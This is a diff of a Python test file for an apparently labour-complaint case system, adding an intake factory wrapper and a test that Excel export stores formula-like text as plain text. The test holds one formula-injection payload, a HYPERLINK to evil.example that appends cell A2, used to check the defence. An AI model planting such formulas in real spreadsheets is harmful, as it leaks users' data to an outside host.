@@ -22,13 +22,19 @@ from engine.db import db
 from engine.errors import DataInvalid, Forbidden, NotFound
 from engine.models import RuleSetting, Task, User
 from engine.scheduler import PERIODIC_JOBS
+from tests import factories
 from tests.conftest import at, make_user, requires_postgres
-from tests.factories import REVIEW_ACCEPT, complete, investigate_data, wage_arrears_intake
+from tests.factories import REVIEW_ACCEPT, complete, investigate_data
 
 MONEY = re.compile(r"^\d+\.\d{2}$")
 NOW = at("2020-12-11 09:00")  # a Friday
 PASSWORD = "correct-horse-9"
 GUIDANCE = {"guidance_date": "2020-12-02", "guidance_content": "职业规划与求职技巧指导", "counsellor": "陈静"}
+
+
+def wage_arrears_intake(**overrides) -> dict:
+    """The factory's intake, its arrears period ended before these complaints (from 2 Nov 2020) were received."""
+    return factories.wage_arrears_intake(**{"period_from": "2020-07-01", "period_to": "2020-10-31", **overrides})
 
 
 def private(name: str = "城南商住楼") -> dict:
@@ -587,6 +593,17 @@ def test_excel_export_of_everything_and_its_scope(client, people, escalated, clo
     assert client.get("/dashboard/export.xlsx?region=532399x").status_code == 400
     sign_in(client, "sup_cx")
     assert client.get("/dashboard/export.xlsx?region=532323").status_code == 404
+
+
+def test_excel_export_stores_text_as_text():
+    from web.dashboard import workbook_bytes
+
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"点击")'
+    content = workbook_bytes([("督办", ["案件编号", "金额"], [[evil, 5]], {1: "#,##0.00"})])
+    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
+    assert (sheet["A2"].value, sheet["A2"].data_type) == (evil, "s")
+    assert (sheet["B2"].value, sheet["B2"].data_type, sheet["B2"].number_format) == (5, "n", "#,##0.00")
+    assert sheet["A1"].font.bold
 
 
 def test_cli_snapshot(app, people, cases):
